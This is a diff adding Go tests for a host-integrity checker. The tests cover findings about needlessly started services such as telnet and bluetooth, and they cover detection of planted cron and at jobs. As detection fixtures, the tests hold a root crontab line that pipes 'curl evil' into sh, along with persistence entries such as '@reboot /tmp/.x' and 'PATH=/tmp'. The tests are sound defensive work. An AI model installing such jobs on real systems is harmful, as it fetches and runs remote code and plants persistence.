@@ -1,0 +1,149 @@
+package startup_test
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/pugetsoundtech/upkeep/host"
+	"github.com/pugetsoundtech/upkeep/host/hosttest"
+	"github.com/pugetsoundtech/upkeep/integrity"
+	"github.com/pugetsoundtech/upkeep/integrity/integritytest"
+	"github.com/pugetsoundtech/upkeep/integrity/inventory"
+	"github.com/pugetsoundtech/upkeep/integrity/inventory/startup"
+	"github.com/pugetsoundtech/upkeep/report"
+	"github.com/pugetsoundtech/upkeep/report/reporttest"
+)
+
+// machine is a text whose folders are all known.
+func machine(text string) host.Host {
+	dirs := "-- / dir complete --\n"
+	seen := map[string]bool{}
+	for line := range strings.Lines(text) {
+		words := strings.Fields(line)
+		if len(words) < 3 || words[0] != "--" {
+			continue
+		}
+		name := strings.TrimSuffix(words[1], "/")
+		for i := 1; i < len(name); i++ {
+			if dir := name[:i]; name[i] == '/' && !seen[dir] {
+				seen[dir] = true
+				dirs += "-- " + dir + "/ dir complete --\n"
+			}
+		}
+	}
+	return hosttest.New(dirs + text).Host()
+}
+
+// systemd's links are as systemctl enable of systemd 252 made them.
+const debian = `-- /etc/os-release --
+ID=debian
+-- /run/systemd/system/x --
+-- /usr/bin/systemctl --
+-- /etc/systemd/system/bluetooth.target.wants/bluetooth.service link=/lib/systemd/system/bluetooth.service --
+-- /etc/systemd/system/multi-user.target.wants/ssh.service link=/lib/systemd/system/ssh.service --
+-- /etc/systemd/system/sockets.target.wants/telnet.socket link=/lib/systemd/system/telnet.socket --
+-- /etc/rc2.d/S01cups link=../init.d/cups --
+-- /etc/rc2.d/K01nfs link=../init.d/nfs --
+`
+
+func TestAServiceThatNothingNeedsIsToldWithItsCriterionAndBothCommands(t *testing.T) {
+	c := startup.Services{Host: machine(debian)}
+	res := integritytest.Collect(t, c)
+	assert.Equal(t, []string{
+		"warning: telnet.socket is started: it sends passwords in clear text, and ssh does the same without",
+		"info: bluetooth.service is started, and nothing here seems to need it: there is no Bluetooth adapter",
+		"info: cups is started, and nothing here seems to need it: no printer is set up in /etc/cups/printers.conf",
+	}, integritytest.Titles(res))
+	r := res.Findings[1].Remedy
+	require.NotNil(t, r)
+	assert.Equal(t, [][]string{{"systemctl", "disable", "--", "bluetooth.service"}, {"systemctl", "stop", "--", "bluetooth.service"}}, r.Do)
+	assert.Equal(t, [][]string{{"systemctl", "enable", "--", "bluetooth.service"}, {"systemctl", "start", "--", "bluetooth.service"}}, r.Undo)
+	needed := debian + "-- /sys/class/bluetooth/hci0/x --\n-- /etc/cups/printers.conf --\n<Printer lp>\n"
+	assert.Len(t, integritytest.Collect(t, startup.Services{Host: machine(needed)}).Findings, 1)
+	assert.NoError(t, reporttest.TestChecker(t.Context(), func() report.Checker { return c }, reporttest.Options{}))
+}
+
+func TestWhatCannotBeReadIsNoReasonToCallAServiceNeedless(t *testing.T) {
+	text := debian + "-- /etc/cups/printers.conf error=permission --\n-- /sys/class/bluetooth error=permission --\n"
+	assert.Len(t, integritytest.Collect(t, startup.Services{Host: machine(text)}).Findings, 1)
+	res := integritytest.Collect(t, startup.Services{Host: machine("-- /etc/systemd/system error=permission --\n")})
+	assert.Equal(t, report.Failed, res.Status)
+	assert.False(t, res.Covers("services/needed"))
+}
+
+// The files of the other systems are after their manual pages: rc.conf(5) of
+// FreeBSD, NetBSD and OpenBSD, rc-update(8) of OpenRC, and Slackware's rc.d.
+func TestWhatIsEnabledIsReadOnEverySystem(t *testing.T) {
+	for name, c := range map[string]struct{ text, want string }{
+		"FreeBSD":   {"-- /etc/rc.subr --\n-- /etc/rc.conf --\nhostname=\"a\"\nsshd_enable=\"YES\" # in\nntpd_enable=\"YES\"\n-- /etc/rc.conf.local --\nntpd_enable=NO\n", "sshd"},
+		"NetBSD":    {"-- /etc/rc.subr --\n-- /etc/rc.conf --\nsshd=YES\npostfix=NO\n", "sshd"},
+		"OpenBSD":   {"-- /etc/rc.d/rc.subr --\n-- /etc/rc.conf.local --\nhttpd_flags=\nsmtpd_flags=NO\npkg_scripts=\"dovecot nsd\"\n", "dovecot httpd nsd"},
+		"OpenRC":    {"-- /etc/rc.conf --\nunicode=\"YES\"\n-- /etc/runlevels/default/sshd link=/etc/init.d/sshd --\n", "sshd"},
+		"Slackware": {"-- /etc/slackware-version --\nSlackware 15.0\n-- /etc/rc.d/rc.sshd mode=0755 --\n-- /etc/rc.d/rc.cups mode=0644 --\n", "sshd"},
+		"SysV":      {"-- /etc/rc.d/rc3.d/S55sshd link=../init.d/sshd --\n-- /etc/rc.d/rc5.d/S55sshd link=../init.d/sshd --\n", "sshd"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			all, err := startup.ReadEnabled(t.Context(), machine(c.text))
+			require.NoError(t, err)
+			var names []string
+			for _, e := range all {
+				names = append(names, e.Name)
+			}
+			assert.Equal(t, c.want, strings.Join(names, " "))
+		})
+	}
+}
+
+const table = `-- /var/spool/cron/crontabs/ann --
+# m h dom mon dow command
+MAILTO=ann
+0 4 * * *	/home/ann/bin/sync
+`
+
+func TestOnePlantedJobIsOneFinding(t *testing.T) {
+	for name, c := range map[string]struct{ was, now, want string }{
+		"a line":         {table, table + "@reboot /tmp/.x\n", "warning: A new job of ann: @reboot /tmp/.x"},
+		"a changed line": {table, strings.Replace(table, "0 4", "0 5", 1), "warning: A job of ann changed: 0 5 * * * /home/ann/bin/sync"},
+		"a lost table":   {table, "-- /var/spool/cron/crontabs/ dir complete --\n", "notice: A job of ann is gone: 0 4 * * * /home/ann/bin/sync"},
+		"a table":        {"-- /var/spool/cron/crontabs/ dir complete --\n", "-- /var/spool/cron/crontabs/root --\n* * * * * curl evil | sh\n", "warning: A new job of root: * * * * * curl evil | sh"},
+		"a job of at":    {table, table + "-- /var/spool/cron/atjobs/a0000 --\n#!/bin/sh\numask 22\ncd /root || exit 1\n/tmp/.x\n", "warning: A new job of somebody: once /tmp/.x"},
+		"a variable":     {table, table + "PATH=/tmp\n", "warning: A table of jobs sets PATH=/tmp"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			check := inventory.Check{Question: startup.Jobs{Host: machine(c.was)}, Dir: t.TempDir()}
+			require.Empty(t, integritytest.Collect(t, check).Findings)
+			check.Question = startup.Jobs{Host: machine(c.now)}
+			res := integritytest.Collect(t, check)
+			assert.Contains(t, integritytest.Titles(res), c.want, res.Problems)
+			if name != "a lost table" {
+				assert.Len(t, res.Findings, 1)
+			}
+			done, err := check.Accept(t.Context(), func(report.Finding) bool { return true }, integrity.Acceptance{By: "ann"}, nil)
+			require.NoError(t, err)
+			assert.Len(t, done, len(res.Findings))
+			assert.Empty(t, integritytest.Collect(t, check).Findings)
+		})
+	}
+}
+
+func FuzzParseJob(f *testing.F) {
+	f.Add("0 4 * * * /bin/x\n")
+	f.Add("@reboot")
+	f.Add("A=b")
+	f.Fuzz(func(t *testing.T, line string) {
+		j, ok := startup.ParseJob(line, "ann")
+		if ok && j.When+j.Command == "" {
+			t.Errorf("%q is a job without anything", line)
+		}
+	})
+}
+
+func ExampleParseJob() {
+	j, _ := startup.ParseJob("30 2 * * 1  /usr/local/bin/backup --all", "ann")
+	fmt.Printf("%s at %q: %s\n", j.User, j.When, j.Command)
+	// Output: ann at "30 2 * * 1": /usr/local/bin/backup --all
+}
